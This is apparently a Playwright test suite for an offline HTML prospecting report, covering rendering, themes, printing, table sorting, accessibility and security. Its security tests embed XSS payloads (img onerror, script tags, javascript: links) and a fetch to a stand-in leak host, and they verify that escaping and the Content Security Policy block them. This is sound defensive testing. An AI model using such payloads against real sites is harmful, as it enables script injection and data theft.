"""The report as a reader sees it: a real chromium, the file on disk, no network."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from playwright.sync_api import Browser, Page, expect

from openprospect_nb.frames.results import Results
from openprospect_nb.reports import Report, report

pytestmark = pytest.mark.browser
CHARTS = ("match", "quality", "reasons", "funnel", "risk", "frontier", "coverage")
A4_INSIDE = 1016  # CSS pixels between the margins of an A4 page
ATTACK = (
    "<img src=x onerror=\"window.pwned=1\"><script>window.pwned=2</script><a href='javascript:window.pwned=3'>x</a>"
)


@dataclass
class Opened:
    """A page and everything it asked for or complained about."""

    page: Page
    complaints: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def show(self, made: Report) -> Page:
        """Open the file of *made* and unfold all of its parts."""
        self.page.goto(made.path.resolve().as_uri())
        return unfold(self.page)

    def drawn(self, made: Report) -> Page:
        """Show *made* and wait for its last chart."""
        self.show(made)
        expect(self.page.locator("figure.chart.is-live")).to_have_count(len(made.summary.charts), timeout=30_000)
        return self.page


def unfold(page: Any) -> Any:
    """Open every part, as a reader does."""
    for closed in page.locator("details.part:not([open]) > summary").all()[::-1]:
        closed.click()
    return page


@pytest.fixture
def visit(browser: Browser) -> Iterator[Callable[..., Opened]]:
    """Make pages without network that record requests, failures and console messages."""
    contexts = []

    def make(**options: Any) -> Opened:
        context = browser.new_context(offline=True, **{"viewport": {"width": 1200, "height": 900}, **options})
        contexts.append(context)
        seen = Opened(context.new_page())
        seen.page.on("console", lambda message: seen.complaints.append(message.text))
        seen.page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        seen.page.on("requestfailed", lambda request: seen.complaints.append(f"failed: {request.url}"))
        seen.page.on("request", lambda request: seen.requests.append(request.url.split(":", 1)[0]))
        return seen

    yield make
    for context in contexts:
        context.close()


@pytest.fixture(scope="module")
def full(some_results: Results, tmp_path_factory: pytest.TempPathFactory) -> Report:
    """The interactive report of sixty companies, on disk."""
    return report(some_results, tmp_path_factory.mktemp("full") / "report.html")


@pytest.fixture(scope="module")
def lite(some_results: Results, tmp_path_factory: pytest.TempPathFactory) -> Report:
    """The same without scripts."""
    return report(some_results, tmp_path_factory.mktemp("lite") / "report.html", lite=True)


def test_it_opens_offline_with_its_charts_and_the_table(
    visit: Callable[..., Opened], full: Report, some_results: Results
) -> None:
    """Opened from disk without network, the report draws its charts, shows every company and stays silent."""
    opened = visit()
    page = opened.drawn(full)

    for key in CHARTS:
        marks = page.locator(f"#opr-chart-{key} .live").locator(".barlayer .point, .scatterlayer .trace")
        expect(marks.first).to_be_attached()
    expect(page.locator("#opr-table tbody tr")).to_have_count(some_results.companies.height)
    assert opened.complaints == []
    assert opened.requests == ["file"]


def test_without_javascript_nothing_is_missing(
    visit: Callable[..., Opened], full: Report, some_results: Results
) -> None:
    """Still pictures take the place of the charts, the table is there, and what needs a script is not shown."""
    page = visit(java_script_enabled=False).show(full)

    expect(page.locator(".still svg:visible")).to_have_count(len(CHARTS) + 1)
    expect(page.locator("#opr-table tbody tr:visible")).to_have_count(some_results.companies.height)
    expect(page.locator("#opr-search")).to_be_hidden()


@pytest.mark.parametrize("width", [600, 1600])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_fits_narrow_and_wide_in_both_themes(
    visit: Callable[..., Opened], full: Report, width: int, scheme: str, tmp_path: Path
) -> None:
    """Nothing makes the page wider than the window, and page and charts have the theme's background."""
    page = visit(viewport={"width": width, "height": 1000}, color_scheme=scheme).drawn(full)
    page.screenshot(path=tmp_path / "report.png", full_page=True)
    background = {"light": "rgb(255, 255, 255)", "dark": "rgb(21, 24, 29)"}[scheme]

    title = page.locator("#opr-chart-match .xtitle")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    expect(title).to_have_css("fill", {"light": "rgb(31, 35, 40)", "dark": "rgb(230, 232, 235)"}[scheme])
    expect(page.locator(".opr")).to_have_css("background-color", background)
    expect(page.locator("#opr-chart-match .main-svg").first).to_have_css("background-color", background)


def test_charts_follow_a_change_of_theme(visit: Callable[..., Opened], full: Report) -> None:
    """A reader whose system turns dark at night sees the open report turn dark."""
    page = visit(color_scheme="light").drawn(full)
    page.emulate_media(color_scheme="dark")

    expect(page.locator("#opr-chart-match .main-svg").first).to_have_css("background-color", "rgb(21, 24, 29)")


@pytest.mark.parametrize("name", ["full", "lite"])
def test_it_prints_on_a4_without_cut_charts(
    visit: Callable[..., Opened], name: str, request: pytest.FixtureRequest
) -> None:
    """In print the still pictures stand in, black on white even from a dark screen, each shorter than a page."""
    made = request.getfixturevalue(name)
    opened = visit(viewport={"width": 688, "height": A4_INSIDE}, color_scheme="dark")
    page = opened.drawn(made) if name == "full" else opened.show(made)
    pdf = page.pdf(format="A4")
    page.emulate_media(media="print")
    figures = page.locator("figure.chart")

    assert pdf.startswith(b"%PDF")
    expect(page.locator(".still svg:visible")).to_have_count(len(CHARTS) + 1)
    expect(page.locator(".opr")).to_have_css("background-color", "rgb(255, 255, 255)")
    assert all(figures.nth(n).bounding_box()["height"] < A4_INSIDE for n in range(len(CHARTS)))
    assert {figures.nth(n).evaluate("e => getComputedStyle(e).breakInside") for n in range(len(CHARTS))} == {"avoid"}


def test_the_table_sorts_and_searches(visit: Callable[..., Opened], full: Report, some_results: Results) -> None:
    """A click on a heading sorts, unknown values last both ways; typing leaves the rows that hold the text."""
    page = visit().drawn(full)
    cells = page.locator("#opr-table tbody tr td:nth-child(5)")
    heading = page.get_by_role("button", name="Match")

    heading.click()
    falling = [text for text in cells.all_inner_texts() if text != "–"]
    heading.click()
    rising = cells.all_inner_texts()
    page.get_by_label("Search").fill("Wien")
    assert falling == sorted(falling, key=float, reverse=True)
    assert [text for text in rising if text != "–"] == sorted(falling, key=float)
    assert rising == sorted(rising, key=lambda text: text == "–")
    expect(page.locator("#opr-table tbody tr:visible")).to_have_count(
        some_results.companies.filter(pl.col("city") == "Wien").height
    )


def test_numbers_sort_as_numbers_in_german(
    visit: Callable[..., Opened], make_results: Callable[..., Results], tmp_path: Path
) -> None:
    """1.250 employees are more than 560, though its first letters say otherwise."""
    results = make_results(6)
    counts = pl.Series([1250, 560, 40, 12, None, 120], dtype=pl.Int64)
    many = replace(results, companies=results.companies.with_columns(employee_count=counts))
    page = visit().drawn(report(many, tmp_path / "report.html", language="de"))
    page.get_by_role("button", name="Beschäftigte").click()

    texts = page.locator("#opr-table tbody tr td:nth-child(4)").all_inner_texts()
    assert texts == ["1.250", "560", "120", "40", "12", "–"]


@pytest.mark.parametrize("options", [{}, {"lite": True}, {"reveal": True}], ids=str)
@pytest.mark.parametrize("bypass", [True, False], ids=["escaping alone", "policy on"])
def test_hostile_text_runs_nothing(
    visit: Callable[..., Opened],
    make_results: Callable[..., Results],
    options: dict[str, bool],
    bypass: bool,
    tmp_path: Path,
) -> None:
    """With an attack in every field nothing executes, with the policy in force and with escaping alone."""
    results = make_results(6)

    def spoilt(frame: pl.DataFrame) -> pl.DataFrame:
        keep = {"order_id", "id", "company_id", "source"}
        texts = [pl.lit(ATTACK).alias(n) for n, kind in frame.schema.items() if kind == pl.String and n not in keep]
        return frame.with_columns(texts).with_columns(
            pl.lit([ATTACK]).alias(n) for n, kind in frame.schema.items() if kind == pl.List(pl.String)
        )

    order = {**results.provenance["orders"][0], "title": ATTACK, "status": ATTACK}
    facts = {**results.provenance, "orders": [order], "icp": dict.fromkeys(results.provenance["icp"], ATTACK)}
    bad = Results(companies=spoilt(results.companies), prospects=spoilt(results.prospects), provenance=facts)
    opened = visit(bypass_csp=bypass)
    made = report(bad, tmp_path / "report.html", title=ATTACK, **options)
    page = opened.show(made) if made.lite else opened.drawn(made)
    for chart in page.locator(".live .nsewdrag").all():
        chart.hover()

    assert page.evaluate("window.pwned") is None
    assert page.locator("img, a[href^=javascript], a[href^=data]").count() == 0
    assert opened.requests == ["file"]
    assert opened.complaints == []


def test_the_policy_stops_what_slips_through(visit: Callable[..., Opened], full: Report) -> None:
    """Were a script ever let into the page, the policy would not run it, nor an event handler, nor a fetch."""
    opened = visit()
    page = opened.drawn(full)
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.pwned = 1";
          document.body.append(script);
          const holder = document.createElement("div");
          holder.innerHTML = '<img src="data:," onerror="window.pwned = 2">';
          document.body.append(holder);
        }"""
    )
    fetched = page.evaluate("fetch('https://leak.example/').then(() => 'sent', () => 'stopped')")

    assert fetched == "stopped"
    expect(page.locator("img")).to_have_count(1)
    assert page.evaluate("window.pwned") is None
    assert sum("Content Security Policy" in text for text in opened.complaints) >= 2


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", ["full", "lite"])
def test_axe_finds_nothing_serious(
    visit: Callable[..., Opened], axe: str, scheme: str, name: str, request: pytest.FixtureRequest
) -> None:
    """The accessibility checker reports no serious or critical problem, contrast included."""
    made = request.getfixturevalue(name)
    opened = visit(bypass_csp=True, color_scheme=scheme)
    page = opened.drawn(made) if name == "full" else opened.show(made)
    page.add_script_tag(content=axe)
    found = page.evaluate("axe.run()")
    serious = [
        (each["id"], each["nodes"][0]["html"][:200])
        for each in found["violations"]
        if each["impact"] in {"serious", "critical"}
    ]

    assert serious == []


def test_page_one_answers_without_scrolling(visit: Callable[..., Opened], full: Report) -> None:
    """At 1440 by 900 sentence, numbers, companies, frontier and cautions are on the first screen."""
    page = visit(viewport={"width": 1440, "height": 900}).page
    page.goto(full.path.resolve().as_uri())

    assert page.locator("section.first").bounding_box()["height"] > 0
    bottom = page.evaluate("document.querySelector('section.first').getBoundingClientRect().bottom")
    assert bottom <= 900
    expect(page.locator("details.part[open]")).to_have_count(0)


def test_long_tables_come_in_pages(visit: Callable[..., Opened], full: Report, some_results: Results) -> None:
    """Fifty companies at a time, the next ones by a button, and a search begins at its first page."""
    page = visit().drawn(full)
    rows = page.locator("#opr-table tbody tr:visible")

    expect(rows).to_have_count(50)
    page.get_by_role("button", name="Next 50").click()
    expect(rows).to_have_count(some_results.companies.height - 50)
    page.get_by_label("Search").fill("Fjordarm 1")
    expect(page.locator("#opr-found")).to_contain_text("1–")


@pytest.mark.parametrize("size", ["A4", "Letter"])
def test_paper_has_what_the_screen_folds(visit: Callable[..., Opened], lite: Report, full: Report, size: str) -> None:
    """Printed, every part is open and no row is left out: page one, charts, companies and an appendix of one sheet."""
    for made in (lite, full):
        page = visit().page
        page.goto(made.path.resolve().as_uri())

        assert sheets(page, size) <= 4
        page.emulate_media(media="print")
        assert page.locator("#opr-table tbody tr").last.bounding_box()["height"] > 0


@pytest.mark.parametrize("size", ["A4", "Letter"])
def test_several_orders_are_few_sheets(
    visit: Callable[..., Opened], make_results: Callable[..., Results], size: str, tmp_path: Path
) -> None:
    """Sixty companies of three orders: page one, the comparison, charts, companies, and an appendix of one sheet."""
    several = Results.concat([make_results(20, order_id=name, seed=place) for place, name in enumerate("abc")])
    page = visit().page
    page.goto(report(several, tmp_path / "report.html", lite=True).path.resolve().as_uri())

    assert sheets(page, size) <= 5


def sheets(page: Page, size: str) -> int:
    """How many sheets of paper a page is printed on."""
    return len(re.findall(rb"/Type\s*/Page\b", page.pdf(format=size)))


def test_on_a_phone_rows_are_cards(visit: Callable[..., Opened], lite: Report) -> None:
    """At 390 pixels no table is cut: cells stand below each other under their names, and nothing is too wide."""
    page = visit(viewport={"width": 390, "height": 844}).show(lite)

    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    expect(page.locator("#opr-table tbody tr").first).to_have_css("display", "block")


def test_the_keyboard_reaches_the_companies_first(visit: Callable[..., Opened], full: Report) -> None:
    """The first stop is the way past the charts, and headings are nested without gaps."""
    page = visit().page
    page.goto(full.path.resolve().as_uri())
    page.keyboard.press("Tab")
    levels = [int(level[1]) for level in page.eval_on_selector_all("h1,h2,h3", "all => all.map(h => h.tagName)")]

    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    expect(page.locator("details#opr-companies")).to_have_attribute("open", "")
    assert levels[0] == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))


def test_the_notebook_frame_shows_the_table(visit: Callable[..., Opened], full: Report, some_results: Results) -> None:
    """The notebook's markup shows companies and still pictures in a sandboxed frame."""
    page = visit().page
    page.set_content(full._repr_html_())
    frame = page.frame_locator("iframe")

    expect(frame.locator("#opr-table tbody tr")).to_have_count(min(100, some_results.companies.height))
    expect(frame.locator(".still svg")).to_have_count(len(CHARTS) + 1)
    assert re.search("Report", page.locator("iframe").get_attribute("title"))
